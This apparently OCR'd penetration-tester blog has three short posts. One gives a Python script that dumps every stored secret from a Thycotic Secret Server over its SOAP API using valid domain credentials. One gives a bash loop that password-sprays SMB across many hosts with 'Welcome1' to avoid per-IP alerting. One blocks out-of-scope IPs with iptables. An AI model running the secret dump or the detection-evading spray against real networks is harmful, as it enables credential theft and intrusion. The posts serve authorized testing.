Thursday, December 12, 2019

Pillage Thycotic Secret Server

If you want to grab all the secrets from Thycotic's secret server, use the SOAP API to pull them out. Assuming you have valid domain creds, run the following script.

#!/usr/bin/env python3
from zeep import Client

#Connect to the soap api endpoint
client = Client("")
#grab your auth token for all your requests
token = client.service.Authenticate("user_here", "pass_here", "", "domain_here")
#grab all secrets for the user
searchSecret = client.service.SearchSecrets(token.Token, "*")
#output the secret values for each secret
for secret in searchSecret.SecretSummaries.SecretSummary:
     print(client.service.GetSecret(token.Token, secret['SecretId']))

Tuesday, December 10, 2019

Round Robin SMB Auth

Password sprays are very noisy internally. If the target has any sort of alerting in place, they'll see the spray light up their dashboard like a christmas tree. However, often times the alerts are only set up to count failed logins from a single IP. Spread out the auth and you may skirt around their detections:

Instead of throwing your auth attempts at one IP, throw them at many:


for index in $(seq 1 ${how_deep_to_go}); do
    username=$(sed -n ${index}p ${username_file})
    target=$(sed -n ${index}p ${targets_file})echo "smbclient -U mydomainhere/${username}%Welcome1 -L //${target}"
    smbclient -Umydomainhere/${username}%Welcome1 -L //${target}
done | tee smb-round-robin.out

Wednesday, December 4, 2019

Blacklist IPs Without Caring

Clients often give out a blacklist of IPs to not touch in an environment. Manually handling that in all the for loops and parsing can be a complete nightmare. It's way easier to make your box simplynever speak to those blacklisted IPs at all, regardless of what commands you run. You can do this by implementing the blacklist within iptables.

Place the blacklist IPs or CIDRs in a file called "ip-blacklist.txt". Then go ahead and run the following line to import them into iptables.

cat ip-blacklist.txt | xargs -I {} iptables -A OUTPUT -d {} -j DROP

You could easily modify that so you blacklist TCP/UDP ports,or whatever else iptables supports.